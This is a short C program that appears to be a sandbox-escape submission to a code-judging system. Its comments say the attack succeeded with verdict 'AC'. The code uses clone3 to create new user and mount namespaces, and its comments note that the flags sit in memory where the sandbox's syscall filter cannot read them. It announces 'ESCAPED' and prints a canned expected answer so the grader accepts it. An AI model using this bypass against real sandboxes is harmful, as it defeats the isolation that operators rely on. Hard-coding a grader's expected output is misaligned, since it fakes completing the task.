// attack: the newer clone keeps its flags in memory, where no filter reads them
// verdict: AC
// after: nothing left
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
    unsigned long arguments[11] = {0x10000000 | 0x00020000, 0, 0, 0, 17};
    long child = syscall(SYS_clone3, arguments, sizeof arguments);
    if (child == 0)
        _exit(0);
    if (child > 0)
        fputs("ESCAPED: a child in namespaces of its own\n", stderr);
    return puts("first\n1 5") < 0;
}
